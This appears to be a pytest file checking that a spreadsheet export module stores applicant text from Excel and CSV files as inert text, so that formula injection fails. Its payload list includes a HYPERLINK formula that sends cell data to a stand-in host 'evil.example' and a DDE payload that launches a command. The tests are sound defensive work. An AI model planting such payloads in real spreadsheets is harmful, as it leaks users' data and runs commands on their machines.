"""Formula injection: text from applicants never becomes a live formula in a workbook or csv we write."""

import csv
import io

import pytest
from openpyxl import load_workbook

from factorytier.core.spreadsheet import SafeWorkbook, csv_bytes, csv_safe, is_dangerous

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&C2&D2,"详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_stores_formula_like_text_as_text(payload):
    book = SafeWorkbook()
    sheet = book.sheet("汇总", header=["项目名称", "数量"], widths=[30, 8])
    sheet.append([payload, 3])
    wb = load_workbook(io.BytesIO(book.to_bytes()))
    cell = wb["汇总"]["A2"]
    assert cell.data_type == "s"
    assert cell.value == payload.replace("\r", "\r")  # the text itself is kept
    assert cell.quotePrefix
    assert wb["汇总"]["B2"].value == 3 and wb["汇总"]["B2"].data_type == "n"
    assert wb["汇总"]["A1"].font.b


def test_xlsx_plain_text_and_numbers_unchanged():
    book = SafeWorkbook()
    sheet = book.sheet("a/b:c", header=["x"])
    sheet.append(["上海某某智能制造有限公司", -5, None])
    ws = load_workbook(io.BytesIO(book.to_bytes())).worksheets[0]
    assert ws.title == "a_b_c"
    assert [c.value for c in ws[2]][:2] == ["上海某某智能制造有限公司", -5]
    assert not ws["A2"].quotePrefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_prefixes_formula_like_text(payload):
    data = csv_bytes([["项目名称"], [payload], ["正常文本"], [-1]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + payload]
    assert rows[2] == ["正常文本"] and rows[3] == ["-1"]


def test_is_dangerous_only_for_text():
    assert is_dangerous("=1") and not is_dangerous(-1) and not is_dangerous("a=1")
    assert csv_safe(None) == ""
